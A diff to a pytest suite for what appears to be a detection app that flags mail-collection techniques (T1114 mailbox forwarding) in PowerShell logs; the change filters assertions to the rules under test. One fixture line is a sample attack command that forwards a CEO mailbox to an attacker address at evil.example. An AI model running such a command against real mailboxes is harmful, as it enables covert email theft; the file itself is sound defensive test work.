@@ -58,6 +58,9 @@ TWO_SUB_TECHNIQUES = {
         "New-InboxRule -Name x -Mailbox ceo@contoso.com -ForwardTo collect@evil.example\n"),
 }
 QUIET = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": "Get-Date", "test_id": "quiet"}
+# The rules these events are about. Another rule may fire on them too (a site's or a new one):
+# the tests look at these rules' findings, never at the whole list.
+RULES_UNDER_TEST = {rule for rule, _, _ in EXPECTED_THREE}
 
 
 def command(app_dir, records, args, path="fast"):
@@ -75,6 +78,12 @@ def findings_of(record):
     return parsed
 
 
+def of_rules_under_test(items, key):
+    """The findings (key "rule") or expanded rows (key "t1114_rule") of RULES_UNDER_TEST, in order;
+    rows without findings (key empty) too."""
+    return [item for item in items if not item[key] or item[key] in RULES_UNDER_TEST]
+
+
 def values(value):
     return value if isinstance(value, list) else ([value] if value else [])
 
@@ -82,7 +91,7 @@ def values(value):
 @pytest.mark.parametrize("path", sorted(PATHS))
 def test_three_mailboxes_in_one_script_block_as_t1114_findings(built_app, path):
     (record,) = command(built_app, [THREE_MAILBOXES], [], path)
-    findings = findings_of(record)
+    findings = of_rules_under_test(findings_of(record), "rule")
     # Two calls of the same rule are two findings, each with its own mailbox and destination.
     assert [(f["rule"], f["mailbox"], [d["address"] for d in f["destinations"]]) for f in findings] == [
         (rule, mailbox, [destination]) for rule, mailbox, destination in EXPECTED_THREE]
@@ -99,7 +108,7 @@ def test_three_mailboxes_in_one_script_block_as_t1114_findings(built_app, path):
 
 @pytest.mark.parametrize("path", sorted(PATHS))
 def test_three_mailboxes_in_one_script_block_expanded(built_app, path):
-    rows = command(built_app, [THREE_MAILBOXES], ["expand=true"], path)
+    rows = of_rules_under_test(command(built_app, [THREE_MAILBOXES], ["expand=true"], path), "t1114_rule")
     assert [(r["t1114_rule"], r["object"], r["t1114_destination"]) for r in rows] == EXPECTED_THREE
     for row, (rule, mailbox, destination) in zip(rows, EXPECTED_THREE):
         assert row["test_id"] == "three-mailboxes" and row["ScriptBlockText"] == THREE_MAILBOXES["ScriptBlockText"]
@@ -140,7 +149,8 @@ def app_allowlisting_admin(built_app, tmp_path):
 
 @pytest.mark.parametrize("path", sorted(PATHS))
 def test_suppressed_finding_carries_all_its_parts(app_allowlisting_admin, path):
-    rows = command(app_allowlisting_admin, [THREE_MAILBOXES], ["mode=all", "expand=true"], path)
+    rows = of_rules_under_test(command(app_allowlisting_admin, [THREE_MAILBOXES], ["mode=all", "expand=true"], path),
+                               "t1114_rule")
     assert [r["t1114_status"] for r in rows] == ["finding", "finding", "suppressed"]
     carol = rows[2]
     assert carol["t1114_rule"] == carol["t1114_suppressed_rule"] == "t1114_003_mailbox_forwarding"
@@ -155,10 +165,12 @@ def test_suppressed_finding_carries_all_its_parts(app_allowlisting_admin, path):
     assert row["description"] == carol["t1114_suppressed_by"]
     # The default mode returns the two unsuppressed findings only; the summary form pairs
     # the suppressing row with its own finding inside t1114_findings.
-    assert [r["object"] for r in command(app_allowlisting_admin, [THREE_MAILBOXES], ["expand=true"], path)] == [
-        "alice@contoso.com", "bob@contoso.com"]
+    returned = of_rules_under_test(command(app_allowlisting_admin, [THREE_MAILBOXES], ["expand=true"], path),
+                                   "t1114_rule")
+    assert [r["object"] for r in returned] == ["alice@contoso.com", "bob@contoso.com"]
     (summary,) = command(app_allowlisting_admin, [THREE_MAILBOXES], [], path)
-    statuses = [(f["mailbox"], f["status"], bool(f["suppressed_by"])) for f in findings_of(summary)]
+    statuses = [(f["mailbox"], f["status"], bool(f["suppressed_by"]))
+                for f in of_rules_under_test(findings_of(summary), "rule")]
     assert statuses == [("alice@contoso.com", "finding", False), ("bob@contoso.com", "finding", False),
                         ("carol@contoso.com", "suppressed", True)]
 
@@ -185,7 +197,7 @@ def test_event_with_findings_of_two_sub_techniques(built_app, path):
 @pytest.mark.parametrize("path", sorted(PATHS))
 def test_mode_all_expand_returns_events_without_findings_once_in_order(built_app, path):
     records = [dict(QUIET, test_id="q1"), THREE_MAILBOXES, dict(QUIET, test_id="q2"), OWN_RULE, dict(QUIET, test_id="q3")]
-    rows = command(built_app, records, ["mode=all", "expand=true"], path)
+    rows = of_rules_under_test(command(built_app, records, ["mode=all", "expand=true"], path), "t1114_rule")
     assert [r["test_id"] for r in rows] == ["q1", "three-mailboxes", "three-mailboxes", "three-mailboxes",
                                             "q2", "own-rule", "q3"]
     for row in rows:
